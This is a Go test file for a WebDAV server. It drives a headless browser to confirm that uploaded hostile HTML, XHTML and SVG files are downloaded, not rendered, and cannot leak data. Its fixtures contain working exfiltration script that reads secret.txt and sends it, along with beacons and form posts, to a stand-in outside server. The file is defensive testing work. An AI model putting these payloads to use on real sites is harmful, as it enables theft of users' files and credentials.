package webdav

import (
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/chromedp/chromedp"
)

// hostile are files that, opened in a browser, try to read secret.txt beside
// them and to tell somebody about it: THERE is that somebody's server, HERE ours.
var hostile = map[string]string{
	"page.html": `<!doctype html><meta charset="utf-8"><title>quiet</title>
<link rel="stylesheet" href="HERE/secret.css"><link rel="prefetch" href="THERE/prefetch"><link rel="icon" href="THERE/icon">
<style>body { background: url(THERE/background) }</style>
<img src="THERE/img"><img src="HERE/secret.png"><iframe src="HERE/secret.txt"></iframe><object data="HERE/object.txt"></object>
<video src="HERE/secret.mp4"></video><a ping="THERE/ping" href="THERE/link">x</a>
<form method="post" action="THERE/form" target="_blank"><input name="a" value="b"></form>
<script src="HERE/secret.js"></script><script>` + script + `</script>`,
	"page.xhtml": `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>quiet</title></head><body>
<img src="THERE/img"/><iframe src="HERE/secret.txt"></iframe><form method="post" action="THERE/form" target="_blank"><input name="a" value="b"/></form>
<script>//<![CDATA[` + "\n" + script + `//]]></script></body></html>`,
	"page.svg": `<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100"><title>quiet</title><image href="THERE/img"/><image href="HERE/secret.png"/>
<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="HERE/secret.txt"></iframe><form xmlns="http://www.w3.org/1999/xhtml" method="post" action="THERE/form" target="_blank"/></foreignObject>
<script>//<![CDATA[` + "\n" + script + `//]]></script></svg>`,
	"refresh.html": `<!doctype html><title>quiet</title><meta http-equiv="refresh" content="0;url=THERE/refresh">`,
}

const script = `
document.title = "it ran";
fetch("THERE/ran", {mode: "no-cors"});
fetch("HERE/secret.txt").then(r => r.text()).then(s => fetch("THERE/stolen?" + encodeURIComponent(s), {mode: "no-cors"}));
fetch("HERE/").then(r => r.text()).then(s => fetch("THERE/listing?" + s.length, {mode: "no-cors"}));
fetch("HERE/sent.txt", {method: "PUT", body: "x"});
navigator.sendBeacon("THERE/beacon", "x");
window.open("THERE/window");
document.querySelector("form").submit();
`

// writeHostile writes the hostile files and a secret, and returns the names of the former.
func writeHostile(t *testing.T, root, here, there string) (names []string) {
	t.Helper()
	for name, text := range hostile {
		write(t, strings.NewReplacer("HERE", here, "THERE", there).Replace(text), root, name)
		names = append(names, name)
	}
	write(t, "secret", root, "secret.txt")
	write(t, "secret", root, "object.txt")
	write(t, "body { color: red }", root, "secret.css")
	write(t, "document.title = 'it ran'", root, "secret.js")
	slices.Sort(names)
	return names
}

// without serves as h does, but for some headers: to take away one defence and look at the next.
func without(h http.Handler, headers *atomic.Pointer[[]string]) http.Handler {
	headers.Store(new([]string))
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		h.ServeHTTP(&headerless{w, *headers.Load()}, r)
	})
}

type headerless struct {
	http.ResponseWriter
	headers []string
}

func (w *headerless) WriteHeader(status int) {
	for _, h := range w.headers {
		w.Header().Del(h)
	}
	w.ResponseWriter.WriteHeader(status)
}

// TestBrowserHostileFiles opens hostile files by their address, logged in. They are
// saved, not shown. Even if they were shown, they would do nothing. And that the test can
// tell, it shows by what they do without any defence.
func TestBrowserHostileFiles(t *testing.T) {
	b := startBrowser(t)
	root := t.TempDir()
	there := watch(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {}))
	var removed atomic.Pointer[[]string]
	here := watch(t, without(browserServer(t, root), &removed))
	names := writeHostile(t, root, here.URL, there.URL)
	b.logIn(here)
	only := func(what, name string) {
		t.Helper()
		if got := here.requests(); !slices.Equal(got, []string{"GET /" + name}) {
			t.Errorf("%s %s: the browser asked for %q", name, what, got)
		}
		if got := there.requests(); len(got) > 0 {
			t.Errorf("%s %s: asked somebody else for %q", name, what, got)
		}
	}

	for _, name := range names {
		if got := b.openFile(here.URL + "/" + name); got != name {
			t.Errorf("%s was saved as %s", name, got)
		}
		only("saved", name)
	}

	removed.Store(&[]string{"Content-Disposition"})
	for _, name := range names {
		b.open(here.URL + "/" + name)
		if m := b.messages(); name == "refresh.html" && !strings.Contains(strings.Join(m, "\n"), "Refused to execute the redirect") {
			t.Errorf("%s: the console does not say that it was refused: %q", name, m)
		}
		if title := evaluate[string](b, "document.title"); title != "quiet" {
			t.Errorf("%s: the title is %s", name, title)
		}
		b.open("about:blank") // what the page has asked for by now has come
		only("shown", name)
	}

	// As text and as a picture, by name, whatever is in them.
	removed.Store(new([]string))
	for _, name := range []string{"page.txt", "page.png"} {
		write(t, read(t, root, "page.html"), root, name)
		b.open(here.URL + "/" + name)
		if title := evaluate[string](b, "document.title"); title == "it ran" || title == "quiet" {
			t.Errorf("%s is taken for HTML", name)
		}
		b.open("about:blank")
		only("shown", name)
	}

	removed.Store(&[]string{"Content-Disposition", "Content-Security-Policy", "X-Content-Type-Options", "Cross-Origin-Resource-Policy"})
	for name, want := range map[string][]string{
		"page.html":    {"GET /ran", "GET /stolen?secret", "GET /img", "GET /background", "GET /prefetch", "POST /beacon", "GET /window", "POST /form"},
		"page.xhtml":   {"GET /ran", "GET /stolen?secret", "GET /img", "POST /beacon", "GET /window", "POST /form"},
		"page.svg":     {"GET /ran", "GET /stolen?secret", "GET /img", "POST /beacon", "GET /window"},
		"refresh.html": {"GET /refresh"},
	} {
		_ = chromedp.Do(b.ctx, chromedp.Navigate(here.URL+"/"+name))
		there.expect(t, want...)
		there.requests()
	}
}

// TestBrowserSavedFile opens a hostile file where the browser has saved it to.
// There its scripts run, and it may ask our server for what it likes, but it cannot read the answer.
func TestBrowserSavedFile(t *testing.T) {
	b := startBrowser(t)
	root := t.TempDir()
	there := watch(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {}))
	var removed atomic.Pointer[[]string]
	server := without(browserServer(t, root), &removed)
	here := watch(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		// Chromium sends a password only where it was asked for it. The others may not be so careful.
		r.SetBasicAuth(testUser, browserPassword)
		server.ServeHTTP(w, r)
	}))
	writeHostile(t, root, here.URL, there.URL)
	write(t, tinyPNG, root, "secret.png")
	write(t, strings.NewReplacer("HERE", here.URL, "THERE", there.URL).Replace(`<!doctype html><title>quiet</title><script>
const tell = what => fetch("THERE/" + what, {mode: "no-cors"});
const told = [];
for (const [name, mode] of [["plain", "cors"], ["opaque", "no-cors"]])
	told.push(fetch("HERE/secret.txt", {mode, credentials: "include"}).then(r => r.text()).then(s => s && tell("read-" + name)).catch(() => {}));
told.push(new Promise(done => {
	const i = new Image();
	i.onload = () => done(tell("image-" + i.width));
	i.onerror = done;
	i.src = "HERE/secret.png";
}));
told.push(new Promise(done => {
	const f = document.createElement("iframe");
	f.onload = () => { try { if (f.contentDocument.body.textContent) tell("frame"); } catch {} done(); };
	f.src = "HERE/secret.txt";
	document.documentElement.append(f);
}));
Promise.all(told).then(() => tell("done"));
</script>`), root, "saved.html")
	b.openFile(here.URL + "/saved.html")
	saved := "file://" + filepath.Join(b.downloads, "saved.html")
	if _, err := os.Stat(filepath.Join(b.downloads, "saved.html")); err != nil {
		t.Fatal(err)
	}
	b.open(saved)
	there.expect(t, "GET /done")
	if got := there.requests(); !slices.Equal(got, []string{"GET /done"}) {
		t.Errorf("it told: %q", got)
	}
	for _, r := range here.requests() {
		if !strings.HasPrefix(r, "GET ") {
			t.Errorf("the server was asked for %s", r)
		}
	}

	removed.Store(&[]string{"Cross-Origin-Resource-Policy"})
	b.open(saved)
	there.expect(t, "GET /done", "GET /image-1") // it would have told
}

// tinyPNG is a picture of 1 by 1.
const tinyPNG = "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89" +
	"\x00\x00\x00\rIDATx\x9cc\xf8\xcf\xc0\xf0\x1f\x00\x05\x00\x01\xff\x89\x99=\x1d\x00\x00\x00\x00IEND\xaeB`\x82"
